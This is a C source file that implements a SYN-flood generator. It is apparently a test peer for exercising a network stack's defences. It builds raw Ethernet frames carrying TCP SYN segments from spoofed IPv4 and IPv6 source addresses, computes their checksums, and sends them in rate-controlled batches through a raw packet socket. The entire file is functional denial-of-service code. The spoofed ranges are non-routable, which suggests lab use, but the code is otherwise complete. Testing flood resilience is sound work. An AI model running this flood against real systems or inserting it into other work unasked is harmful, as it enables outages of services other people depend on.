/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * A SYN flood: --count first segments from as many spoofed addresses, sent as
 * frames by --dev to the next hop --mac, at --rate a second.
 */
#include "peer.h"

#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define FRAME_BYTES (sizeof(struct ether_header) + sizeof(struct ip6_hdr) + sizeof(struct tcphdr))

struct frame {
	char bytes[FRAME_BYTES];
	size_t len;
};

static uint32_t sum_add(uint32_t sum, const void *data, size_t len)
{
	const uint16_t *words = data;

	for (size_t i = 0; i < len / 2; i++)
		sum += words[i];
	return sum;
}

static uint16_t sum_fold(uint32_t sum)
{
	sum = (sum & 0xffff) + (sum >> 16);
	sum += sum >> 16;
	return (uint16_t)~sum;
}

/* The addresses lie one behind the other in both headers, as the pseudo header wants them. */
static void tcp_fill(struct tcphdr *tcp, const void *addresses, size_t addresses_len,
		     uint16_t dst_port, uint64_t index)
{
	uint32_t sum = htons(IPPROTO_TCP) + htons(sizeof(*tcp));

	memset(tcp, 0, sizeof(*tcp));
	tcp->source = htons((uint16_t)(1024 + index % 60000));
	tcp->dest = dst_port;
	tcp->seq = htonl((uint32_t)index * 2654435761U);
	tcp->doff = sizeof(*tcp) / 4;
	tcp->syn = 1;
	tcp->window = htons(64240);
	sum = sum_add(sum, addresses, addresses_len);
	tcp->check = sum_fold(sum_add(sum, tcp, sizeof(*tcp)));
}

static void frame_fill_v4(struct frame *frame, const struct sockaddr_in *to, uint64_t index)
{
	struct iphdr *ip = (struct iphdr *)(frame->bytes + sizeof(struct ether_header));

	*ip = (struct iphdr){ .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP };
	ip->tot_len = htons(sizeof(*ip) + sizeof(struct tcphdr));
	ip->saddr = htonl(0x64400000U + (uint32_t)(index & 0x3fffff)); /* 100.64.0.0/10 */
	ip->daddr = to->sin_addr.s_addr;
	ip->check = sum_fold(sum_add(0, ip, sizeof(*ip)));
	tcp_fill((struct tcphdr *)(ip + 1), &ip->saddr, 8, to->sin_port, index);
	frame->len = sizeof(struct ether_header) + sizeof(*ip) + sizeof(struct tcphdr);
}

static void frame_fill_v6(struct frame *frame, const struct sockaddr_in6 *to, uint64_t index)
{
	struct ip6_hdr *ip = (struct ip6_hdr *)(frame->bytes + sizeof(struct ether_header));

	memset(ip, 0, sizeof(*ip));
	ip->ip6_flow = htonl(6U << 28);
	ip->ip6_plen = htons(sizeof(struct tcphdr));
	ip->ip6_nxt = IPPROTO_TCP;
	ip->ip6_hlim = 64;
	inet_pton(AF_INET6, "fd64::", &ip->ip6_src);
	ip->ip6_src.s6_addr32[3] = htonl((uint32_t)index);
	ip->ip6_dst = to->sin6_addr;
	tcp_fill((struct tcphdr *)(ip + 1), &ip->ip6_src, 32, to->sin6_port, index);
	frame->len = FRAME_BYTES;
}

static int link_open(const char *dev, const char *mac, struct frame frames[BATCH])
{
	struct sockaddr_ll link = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL) };
	int fd = socket(AF_PACKET, SOCK_RAW, 0);
	struct ether_addr dst;
	struct ifreq request = { 0 };

	link.sll_ifindex = (int)if_nametoindex(dev);
	snprintf(request.ifr_name, sizeof(request.ifr_name), "%s", dev);
	if (fd < 0 || bind(fd, (struct sockaddr *)&link, sizeof(link)) ||
	    ioctl(fd, SIOCGIFHWADDR, &request))
		die(dev);
	if (!ether_aton_r(mac, &dst))
		die(mac);
	for (int i = 0; i < BATCH; i++) {
		struct ether_header *eth = (struct ether_header *)frames[i].bytes;

		memcpy(eth->ether_dhost, &dst, 6);
		memcpy(eth->ether_shost, request.ifr_hwaddr.sa_data, 6);
	}
	return fd;
}

static void frames_send(int fd, const struct options *options, struct frame frames[BATCH],
			uint64_t first, unsigned int count)
{
	bool v4 = options->to.addr.ss_family == AF_INET;
	struct mmsghdr messages[BATCH] = { 0 };
	struct iovec parts[BATCH];
	int sent;

	for (unsigned int i = 0; i < count; i++) {
		struct ether_header *eth = (struct ether_header *)frames[i].bytes;

		eth->ether_type = htons(v4 ? ETHERTYPE_IP : ETHERTYPE_IPV6);
		if (v4)
			frame_fill_v4(&frames[i], (const void *)&options->to.addr, first + i);
		else
			frame_fill_v6(&frames[i], (const void *)&options->to.addr, first + i);
		parts[i] = (struct iovec){ frames[i].bytes, frames[i].len };
		messages[i].msg_hdr.msg_iov = &parts[i];
		messages[i].msg_hdr.msg_iovlen = 1;
	}
	for (unsigned int done = 0; done < count; done += (unsigned int)sent) {
		sent = sendmmsg(fd, messages + done, count - done, 0);
		if (sent < 0 && errno != ENOBUFS && errno != EINTR)
			die("sendmmsg");
		sent = sent < 0 ? 0 : sent;
	}
}

int flood(const struct options *options)
{
	static struct frame frames[BATCH];
	int fd = link_open(options->dev, options->mac, frames);
	uint64_t started = now_ns();

	for (uint64_t sent = 0; sent < options->count;) {
		uint64_t left = options->count - sent;
		unsigned int batch = left < BATCH ? (unsigned int)left : BATCH;

		if (options->rate && sent * 1000000000U / options->rate > now_ns() - started) {
			nanosleep(&(struct timespec){ .tv_nsec = 200000 }, NULL);
			continue;
		}
		frames_send(fd, options, frames, sent, batch);
		sent += batch;
	}
	printf("{\"sent\":%lu}\n", options->count);
	return 0;
}
